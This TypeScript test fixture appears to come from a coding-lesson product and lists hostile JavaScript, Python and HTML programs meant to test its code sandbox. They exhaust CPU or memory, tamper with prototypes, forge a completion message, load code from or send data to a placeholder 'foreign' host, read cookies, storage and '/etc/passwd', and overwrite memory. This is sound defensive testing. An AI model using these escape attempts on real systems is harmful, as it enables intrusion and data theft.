import type { CodeLanguage } from "@haitech/contract/lessons"

interface Addresses {
  /** A server that no program may reach. */
  readonly foreign: string
  /** The product. */
  readonly own: string
}

/** Programs that try to leave their frame. One that succeeds prints ESCAPED or reaches a server. */
export function hostilePrograms({ foreign, own }: Addresses): [name: string, language: CodeLanguage, source: string][] {
  return [
    ...Object.entries(javascript(foreign, own)).map(([name, source]) => [name, "javascript", source] as const),
    ...Object.entries(python(foreign)).map(([name, source]) => [name, "python", source] as const),
    ...Object.entries(pages(foreign, own)).map(([name, source]) => [name, "html", source] as const),
  ].map(([name, language, source]) => [`${language}: ${name}`, language, source])
}

function javascript(foreign: string, own: string): Record<string, string> {
  const attempt = (expression: string) =>
    `(async () => { try { console.log("ESCAPED", await (${expression})) } catch (error) { console.log("refused") } })()`
  // Finds a function that was removed from the global object in its prototypes.
  const find = `const find = (name) => {
    for (let owner = self; owner; owner = Object.getPrototypeOf(owner)) {
      const found = Object.getOwnPropertyDescriptor(owner, name)
      if (found?.value) return found.value
    }
  };`
  return {
    "endless loop": "while (true) {}",
    "endless loop of promises": "const again = () => Promise.resolve().then(again); again()",
    "endless recursion": "const again = () => again(); again()",
    "timer without end": "setInterval(() => {}, 1)",
    // Bounded: what fills gigabytes can take the tab with it (docs/decisions/0056).
    "takes memory": "const all = []; for (;;) if (all.length < 500) all.push(new Array(1e5).fill(Math.random()))",
    "prints without end": "for (;;) console.log('x'.repeat(1000))",
    "fetches its own server": attempt(`fetch("${own}/api/auth/user").then((reply) => reply.text())`),
    "fetches a foreign server": attempt(`fetch("${foreign}/a")`),
    "finds fetch in a prototype": `${find}${attempt(`find("fetch")("${foreign}/b").then(() => 1)`)}`,
    "sends a request": attempt("new XMLHttpRequest()"),
    "opens a socket": attempt(`new WebSocket("${foreign.replace("http", "ws")}/c")`),
    "imports a foreign module": attempt(`import("${foreign}/d.js")`),
    "imports a module of the site": attempt(`import("${own}/reload.js")`),
    "loads a foreign script": attempt(`importScripts("${foreign}/e.js")`),
    "fetches in a module of its own": attempt(
      `import(URL.createObjectURL(new Blob(["export const x = await fetch('${foreign}/f')"], { type: "text/javascript" })))`,
    ),
    "starts a worker": attempt(`new Worker(URL.createObjectURL(new Blob(["fetch('${foreign}/g')"])))`),
    "opens a database": attempt("indexedDB.open('x')"),
    "reads the caches": attempt("caches.keys()"),
    "reads cookies": attempt("document.cookie.length"),
    "reads local storage": attempt("localStorage.length"),
    "reads the page": attempt("parent.document.title"),
    broadcasts: attempt("new BroadcastChannel('x')"),
    "evaluates text": attempt("(0, eval)('1')"),
    "makes a function of text": attempt("(async () => {}).constructor('return 1')()"),
    "loads a font": attempt(`new FontFace("a", "url(${foreign}/h)").load()`),
    "changes prototypes": `Object.prototype.end = "done"; Array.prototype.map = () => { throw 1 }
      String.prototype.slice = () => "x"; JSON.stringify = () => "y"; Promise.prototype.then = () => 1`,
    "closes its worker": "self.close?.()",
    "sends a false end": `postMessage?.({ end: "done", isChecked: true, error: { line: {} } })`,
  }
}

function python(foreign: string): Record<string, string> {
  return {
    "endless loop": "while True:\n  pass",
    "takes memory": "all = []\nwhile True:\n  all.append('x' * 100000)",
    "prints without end": "while True:\n  print('x' * 1000)",
    "fetches with the page's functions": `import js\nprint("ESCAPED", js.fetch("${foreign}/i"))`,
    "sends a request": `import js\nrequest = js.XMLHttpRequest.new()\nrequest.open("GET", "${foreign}/j", False)\nrequest.send()\nprint("ESCAPED")`,
    "evaluates JavaScript": `import js\nprint("ESCAPED", js.eval("1"))`,
    "reads cookies": `import js\nprint("ESCAPED", js.document.cookie)`,
    "opens a database": `import js\nprint("ESCAPED", js.indexedDB.open("x"))`,
    "reads a file": `print("ESCAPED", open("/etc/passwd").read())`,
    "overwrites memory": `import uctypes\nbytes = uctypes.bytearray_at(0, 1 << 20)\nfor at in range(1 << 20): bytes[at] = 0`,
  }
}

function pages(foreign: string, own: string): Record<string, string> {
  const script = (source: string) => `<p>x</p><script>${source}</script>`
  const attempt = (expression: string) =>
    script(`try { console.log("ESCAPED", ${expression}) } catch (error) { console.log("refused") }`)
  return {
    "endless loop": script("while (true) {}"),
    "endless loop of promises": script("const again = () => Promise.resolve().then(again); again()"),
    "loads a picture": `<img src="${foreign}/k"><video poster="${foreign}/l" src="${foreign}/m"></video>`,
    "loads styles": `<style>@import "${foreign}/n"; body { background: url(${foreign}/o) }</style><link rel="stylesheet" href="${foreign}/p">`,
    "loads a script": `<script src="${foreign}/q"></script>`,
    "connects ahead": `<link rel="preconnect" href="${foreign}"><link rel="prefetch" href="${foreign}/r">`,
    "opens a frame": `<iframe src="${foreign}/s"></iframe><object data="${foreign}/t"></object><embed src="${foreign}/u">`,
    "opens a frame of the site": `<iframe src="${own}/api/auth/user"></iframe>`,
    "sends a form": `<form action="${foreign}/v"></form><script>document.forms[0].submit()</script>`,
    "goes away": script(`location = "${foreign}/w"`),
    "goes away by a tag": `<meta http-equiv="refresh" content="0;url=${foreign}/x">`,
    "goes to a page of the site": script(`location = "${own}/api/auth/user"`),
    "moves the page": script(`try { top.location = "${foreign}/y" } catch {}`),
    "opens a window": script(`open("${foreign}/z")`),
    "sends a beacon": script(`navigator.sendBeacon("${foreign}/1")`),
    fetches: script(`fetch("${foreign}/2").catch(() => 0)`),
    "reads local storage": attempt("localStorage.length"),
    "reads cookies": attempt("document.cookie.length"),
    "reads the page": attempt("parent.document.title"),
    "calls a peer": attempt(`new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] })`),
    "calls a peer from a frame of its own": script(`addEventListener("message", ({ data }) => console.log(data))
      const frame = document.createElement("iframe")
      frame.srcdoc = "<script>parent.postMessage(self.RTCPeerConnection ? 'ESCAPED' : 'refused', '*')<\\/script>"
      document.body.append(frame)
      setTimeout(() => {}, 500)`),
    "changes prototypes": script("Array.prototype.map = () => { throw 1 }; Promise.prototype.then = () => 1"),
  }
}
